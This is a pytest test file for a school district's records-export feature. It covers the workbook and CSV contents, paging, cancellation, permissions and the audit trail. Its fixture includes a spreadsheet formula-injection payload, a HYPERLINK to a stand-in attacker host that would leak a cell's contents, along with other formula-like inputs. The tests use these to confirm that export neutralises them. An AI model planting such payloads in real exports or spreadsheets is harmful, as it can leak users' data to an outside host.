"""The records exported for a public-records request or an auditor, against a real database: every table's
headers and rows, read back with openpyxl and csv; formula injection neutralised; paging, progress and
Cancel; never a half-written file; who may export; the export in the audit trail."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from techapproval.db.models import AuditEvent, Contract
from techapproval.domain.deletions import Requester
from techapproval.domain.enums import Decision, Permission
from techapproval.domain.exceptions import Condition, Plan
from techapproval.domain.incidents import IncidentForm, Involves
from techapproval.export.cells import csv_text, xlsx_value
from techapproval.export.writers import TableFormat
from techapproval.services import deletions, exceptions, incidents
from techapproval.services import records_export as rx
from techapproval.services import requests as svc
from techapproval.services.errors import Invalid, NotAllowed
from tests.helpers import approved_resource, complete_form, registered_contract, submitted_request

D = date.fromisoformat
ON = D("2027-01-20")
TITLES = [t.title for t in rx.TABLES]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def records(district):
    """A district with one of each: approved and refused requests (one full of formula-like text), a draft,
    a contract missing P7, an incident, a deletion request and an IEP/504 exception."""
    ids = {}
    ids["approved"] = submitted_request(district, resource_name=EVIL, planned_use="-2+3 quizzes",
                                        who_has_access="+1 class", information_details="@everyone")
    with district.db.transaction() as s:
        svc.decide_request(s, district.reviewer, ids["approved"], Decision.APPROVED, Permission.PARENTAL_REQUIRED)
    ids["refused"] = submitted_request(district, resource_name="FreeGamesNow", resource_link="")
    with district.db.transaction() as s:
        svc.decide_request(s, district.reviewer, ids["refused"], Decision.NOT_APPROVED,
                           reason="Sells student data to advertisers.")
    with district.db.transaction() as s:
        ids["draft"] = svc.save_draft(s, district.teacher, None, complete_form(resource_name="Secret draft"))
    ids["contract"] = registered_contract(district, "Acme Learning", D("2026-09-01"), missing=("P7",),
                                          title="Data privacy agreement")
    with district.db.transaction() as s:
        contractor = s.get(Contract, ids["contract"]).contractor_id
        ids["incident"] = incidents.record_incident(s, district.reviewer, IncidentForm(
            contractor_id=contractor, contract_id=ids["contract"], discovered_on=D("2027-01-11"),
            involves=frozenset({Involves.STUDENT_INFORMATION}), students_affected=42,
            description="A misconfigured export exposed class rosters."), today=ON).id
        ids["deletion"] = deletions.record_deletion_request(
            s, district.reviewer, contractor, requested_by=Requester.PARENT, case_reference="DEL-2026-014",
            requested_on=D("2027-01-04"), what="The child's account and essays.", today=ON).id
    ids["resource"] = approved_resource(district, resource_name="Read&Write", resource_link="https://readwrite.example")
    with district.db.transaction() as s:
        e = exceptions.record_exception(s, district.reviewer, "504-2026-003", Plan.SECTION_504, ids["resource"],
                                        "Text-to-speech the plan names.")
        exceptions.set_condition(s, district.reviewer, e.id, Condition.FERPA_HIPAA, D("2027-01-05"), e.version,
                                 today=ON)
        ids["exception"] = e.id
    return ids


@pytest.fixture
def out(tmp_path):
    """Where the exports go: a folder of its own (tmp_path holds the test's database)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def export(district, path, fmt, actor=None, **kwargs) -> rx.ExportResult:
    return rx.export_records(district.db, actor or district.reviewer, path, fmt, on=ON, **kwargs)


def sheets(path) -> dict[str, list[list]]:
    book = load_workbook(path, read_only=True)
    try:
        return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}
    finally:
        book.close()


def as_dicts(rows: list[list]) -> list[dict]:
    header, *body = rows
    return [dict(zip(header, [*row, *[None] * (len(header) - len(row))], strict=True)) for row in body]


# --- XLSX -------------------------------------------------------------------------------------------


def test_the_workbook_has_a_sheet_per_table_with_its_headers(district, records, out):
    result = export(district, out / "records.xlsx", TableFormat.XLSX)
    assert result.files == (out / "records.xlsx",) and not result.cancelled
    found = sheets(out / "records.xlsx")
    assert list(found) == TITLES
    for table in rx.TABLES:
        assert tuple(found[table.title][0]) == table.headers
        assert len(found[table.title]) - 1 == result.rows[table.key]
    assert result.row_count == result.total
    assert sorted(out.iterdir()) == [out / "records.xlsx"]  # no temporary file left


def test_requests_sheet_has_the_form_and_the_decision(district, records, out):
    export(district, out / "records.xlsx", TableFormat.XLSX)
    rows = {r["Request number"]: r for r in as_dicts(sheets(out / "records.xlsx")["Requests"])}
    assert len(rows) == 3 and records["draft"] not in rows  # never a draft
    assert "Secret draft" not in str(rows)
    approved, refused = rows[records["approved"]], rows[records["refused"]]
    assert approved["Status"] == "Approved"
    assert (approved["Requester"], approved["Position"]) == ("Nguyễn Thị Ánh", "Teacher")
    assert approved["Grades"] == "3, 4"
    assert approved["Not used by students"] is False
    assert approved["Information shared"].startswith("First and last name; Student-generated content (essays")
    assert approved["Students sign up for an account"] == "No"
    assert approved["The application requires parental permission"] == "Not sure"
    assert approved["Decision"] == "Approved for use"
    assert approved["Parental permission"] == "Additional parental notification and permission required."
    assert approved["Reason (not approved)"] is None
    assert approved["Decided by"] == "Rita Reviewer"
    assert isinstance(approved["Decided (Connecticut time)"], datetime)
    assert isinstance(approved["Approved resource number"], int)
    assert refused["Decision"] == "Not approved for use at this time"
    assert refused["Reason (not approved)"] == "Sells student data to advertisers."
    assert refused["Parental permission"] is None and refused["Link"] is None  # empty cells for none


def test_formula_like_text_is_a_string_cell_in_the_workbook(district, records, out):
    export(district, out / "records.xlsx", TableFormat.XLSX, tables=["requests"])
    book = load_workbook(out / "records.xlsx")  # not read-only: styles and cell types
    sheet = book["Requests"]
    headers = [c.value for c in sheet[1]]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["H"].width > 20  # the resource's name: wider than a number
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == records["approved"])
    cells = dict(zip(headers, row, strict=True))
    for header, text in (("Name of the resource", EVIL), ("How the requester plans to use it", "-2+3 quizzes"),
                         ("Who will have access", "+1 class"), ("Details of the information shared", "@everyone")):
        assert cells[header].value == text and cells[header].data_type == "s", header
    book.close()


def test_contracts_resources_incidents_deletions_and_exceptions(district, records, out):
    export(district, out / "records.xlsx", TableFormat.XLSX)
    found = sheets(out / "records.xlsx")
    [contract] = as_dicts(found["Contracts"])
    assert (contract["Contract number"], contract["Contractor"]) == (records["contract"], "Acme Learning")
    assert contract["Title"] == "Data privacy agreement"
    assert contract["P1: Student data remains the Board's property and under its control"] == "Yes"
    assert contract["P7: No retention of student data after the contract expires"] == "Missing"
    assert contract["Provisions missing"] == "P7"
    assert contract["Executed"] == datetime(2026, 9, 1)  # a date cell: openpyxl reads it back as a datetime
    assert contract["Website notice posted"] is None
    assert contract["Compliance status"] in ("Missing provisions", "Website notice not posted")
    assert "Missing P7" in contract["Compliance details"]

    resources = {r["Resource number"]: r for r in as_dicts(found["Approved resources"])}
    read_write = resources[records["resource"]]
    assert (read_write["Name"], read_write["Coverage"]) == ("Read&Write", "IEP/504 exception")
    assert read_write["Reason no contract is required, or case reference"] == "504-2026-003"
    assert read_write["Compliance status"] == "IEP/504 exception incomplete"

    [incident] = as_dicts(found["Incidents"])
    assert (incident["Contractor"], incident["Students affected"]) == ("Acme Learning", 42)
    assert incident["Involves"] == "Student information (other than directory information)"
    assert incident["Contractor's notice due"] == datetime(2027, 2, 10)  # 30 days after discovery
    assert incident["Status"] == "Open"

    [deletion] = as_dicts(found["Deletion requests"])
    assert (deletion["Requested by"], deletion["Case reference"]) == ("Parent or guardian", "DEL-2026-014")
    assert deletion["Outcome"] == "Open: waiting for the contractor"
    assert deletion["Closed"] is None and deletion["Status"].startswith("Open: deletion due by")

    [exception] = as_dicts(found["IEP-504 exceptions"])
    assert (exception["Case reference"], exception["Plan"], exception["Resource"]) == (
        "504-2026-003", "504 plan", "Read&Write")
    assert exception["Met on: FERPA and HIPAA compliance"] == datetime(2027, 1, 5)
    assert exception["Met on: Parent signed the agreement"] is None
    assert exception["Met on: Planning and placement team member signed (IEP only)"] == rx.NOT_FOR_504
    assert exception["Status"] == "Incomplete"
    assert exception["Conditions with evidence attached"] == "0 of 4"


def test_the_audit_trail_sheet_and_the_export_recorded(district, records, out):
    with district.db.transaction() as s:
        before = s.scalar(select(AuditEvent.id).order_by(AuditEvent.id.desc()).limit(1))
    result = export(district, out / "records.xlsx", TableFormat.XLSX)
    trail = as_dicts(sheets(out / "records.xlsx")["Audit trail"])
    assert [e["Event number"] for e in trail] == list(range(1, before + 1))  # not the export's own event
    decided = next(e for e in trail if e["What happened"] == "Not approved" and e["Record type"] == "Request")
    assert (decided["Who"], decided["Record type"]) == ("Rita Reviewer", "Request")
    assert "status: submitted \u2192 not_approved" in decided["Details"]
    assert len(decided["Hash"]) == 64 and len(decided["Previous hash"]) == 64
    with district.db.transaction() as s:
        event = s.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).one()
    assert (event.actor_id, event.entity, event.action) == (district.reviewer, "records_export", "records exported")
    assert event.changes["format"] == "xlsx" and event.changes["file"] == "records.xlsx"
    assert event.changes["rows"] == result.row_count
    assert event.changes["tables"]["Requests"] == 3
    assert "Nguyễn" not in str(event.changes)  # who and how many, never the data


# --- CSV --------------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_files_in_a_folder(district, records, out):
    folder = out / "records"
    result = export(district, folder, TableFormat.CSV)
    names = ["requests.csv", "approved-resources.csv", "contracts.csv", "incidents.csv", "deletion-requests.csv",
             "iep-504-exceptions.csv", "accessibility-reviews.csv", "audit-trail.csv"]
    assert [p.name for p in result.files] == names
    assert sorted(p.name for p in folder.iterdir()) == sorted(names)
    for table, name in zip(rx.TABLES, names, strict=True):
        rows = read_csv((folder / name).read_bytes())
        assert tuple(rows[0]) == table.headers
        assert len(rows) - 1 == result.rows[table.key]
    requests = {r["Request number"]: r for r in as_dicts(read_csv((folder / "requests.csv").read_bytes()))}
    approved = requests[str(records["approved"])]
    assert approved["Name of the resource"] == "'" + EVIL  # neutralised: shown as text, never run
    assert approved["How the requester plans to use it"] == "'-2+3 quizzes"
    assert approved["Who will have access"] == "'+1 class"
    assert approved["Details of the information shared"] == "'@everyone"
    assert approved["Requester"] == "Nguyễn Thị Ánh"
    assert approved["Not used by students"] == "No"
    assert approved["Reason (not approved)"] == ""  # empty for none
    decided = datetime.fromisoformat(approved["Decided (Connecticut time)"])
    assert decided.utcoffset() is not None  # ISO 8601 with the offset
    [contract] = as_dicts(read_csv((folder / "contracts.csv").read_bytes()))
    assert contract["Executed"] == "2026-09-01"


def test_csv_files_in_a_zip(district, records, out):
    result = export(district, out / "records.zip", TableFormat.CSV_ZIP, tables=["audit", "requests"])
    assert result.files == (out / "records.zip",)
    with zipfile.ZipFile(out / "records.zip") as z:
        assert z.namelist() == ["requests.csv", "audit-trail.csv"]  # the export's order, whatever was asked
        rows = read_csv(z.read("requests.csv"))
    assert len(rows) == 4 and rows[0][0] == "Request number"
    assert list(result.rows) == ["requests", "audit"]


# --- paging, progress, Cancel, failures ---------------------------------------------------------------


def test_pages_and_progress(district, records, out):
    for n in range(5):
        submitted_request(district, resource_name=f"Tool {n}")
    calls = []
    result = export(district, out / "records.zip", TableFormat.CSV_ZIP, tables=["requests"], page_size=2,
                    progress=lambda done, total: calls.append((done, total)))
    assert result.rows == {"requests": 8}
    assert calls[0] == (0, 8) and calls[-1] == (8, 8)
    assert [done for done, _ in calls] == sorted(done for done, _ in calls)
    assert len(calls) == 1 + 4  # a call per page of two


@pytest.mark.parametrize("fmt, name", [(TableFormat.XLSX, "records.xlsx"), (TableFormat.CSV_ZIP, "records.zip"),
                                       (TableFormat.CSV, "records")])
def test_cancel_leaves_nothing(district, records, out, fmt, name):
    calls = []
    result = export(district, out / name, fmt, page_size=1, progress=lambda d, t: calls.append(d),
                    cancelled=lambda: len(calls) >= 3)
    assert result.cancelled and result.files == ()
    if fmt is TableFormat.CSV:
        assert list((out / name).iterdir()) == []
    else:
        assert list(out.iterdir()) == []
    with district.db.transaction() as s:
        assert s.scalar(select(AuditEvent.id).where(AuditEvent.entity == "records_export")) is None


def test_a_failure_keeps_the_earlier_file_whole(district, records, out, monkeypatch):
    path = out / "records.xlsx"
    path.write_bytes(b"last year's export")

    def broken(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(rx, "TABLES", tuple(replace(t, read=broken) if t.key == "contracts" else t
                                            for t in rx.TABLES))
    with pytest.raises(OSError):
        export(district, path, TableFormat.XLSX)
    assert path.read_bytes() == b"last year's export"
    assert list(out.iterdir()) == [path]


# --- who, what and where -----------------------------------------------------------------------------


def test_requesters_may_not_export(district, records, out):
    with pytest.raises(NotAllowed):
        export(district, out / "records.xlsx", TableFormat.XLSX, actor=district.teacher)
    assert not (out / "records.xlsx").exists()
    assert export(district, out / "admin.xlsx", TableFormat.XLSX, actor=district.admin).files


def test_tables_and_destination_are_checked(district, out):
    with pytest.raises(Invalid, match="No table is called minutes"):
        export(district, out / "r.xlsx", TableFormat.XLSX, tables=["requests", "minutes"])
    with pytest.raises(Invalid, match="at least one table"):
        export(district, out / "r.xlsx", TableFormat.XLSX, tables=[])
    with pytest.raises(Invalid, match="is a folder"):
        export(district, out, TableFormat.XLSX)
    (out / "file").write_text("x")
    with pytest.raises(Invalid, match="is a file"):
        export(district, out / "file", TableFormat.CSV)


# --- cells --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_is_neutralised(text):
    assert csv_text(text) == "'" + text
    assert xlsx_value(text) == (text, True)


def test_plain_values_in_csv_and_xlsx():
    assert [csv_text(v) for v in (None, True, False, 7, D("2026-09-01"), "a-b", "")] == [
        "", "Yes", "No", "7", "2026-09-01", "a-b", ""]
    assert xlsx_value("bell\x07") == ("bell", False)  # XML cannot carry it
    assert xlsx_value("#N/A") == ("#N/A", True)  # never an error cell
    assert xlsx_value(None) == (None, False)


def test_accessibility_answers_reviews_and_renewal_dates_are_exported(district, out):
    from techapproval.domain.accessibility import ReviewForm
    from techapproval.domain.enums import AccessibilityFinding, Answer, ClaimedConformance
    from techapproval.services import accessibility

    rid = submitted_request(district, resource_name="Flip", resource_link="https://flip.example",
                            acr_available=Answer.YES, claimed_conformance=ClaimedConformance.WCAG_21_AA,
                            known_barriers="Videos have no captions by default.")
    with district.db.transaction() as s:
        accessibility.record_review(s, district.reviewer, request_id=rid, today=ON, form=ReviewForm(
            AccessibilityFinding.PARTIALLY_CONFORMS, ClaimedConformance.WCAG_21_AA, True, D("2027-01-15"),
            alternative_plan="Captioned copies of each video from the teacher."))
        svc.decide_request(s, district.reviewer, rid, Decision.APPROVED, Permission.NONE_REQUIRED)
    export(district, out / "records.xlsx", TableFormat.XLSX)
    found = sheets(out / "records.xlsx")
    [request] = [r for r in as_dicts(found["Requests"]) if r["Request number"] == rid]
    assert (request["Accessibility report (VPAT/ACR) available"], request["Accessibility the vendor claims"],
            request["Known accessibility barriers"]) == ("Yes", "WCAG 2.1 Level AA",
                                                         "Videos have no captions by default.")
    [review] = as_dicts(found["Accessibility reviews"])
    assert (review["Resource"], review["Request number"], review["Finding"]) == ("Flip", rid, "Partially conforms")
    assert review["Equally effective alternative plan"] == "Captioned copies of each video from the teacher."
    assert review["Reviewed by"] == "Rita Reviewer"
    [resource] = as_dicts(found["Approved resources"])
    assert resource["Accessibility"] == "Alternative plan"
    assert resource["Renewal due"] is not None and resource["Renewal due"].year == datetime.now().year + 3
    assert resource["Approval ended, renewal not approved (Connecticut time)"] is None
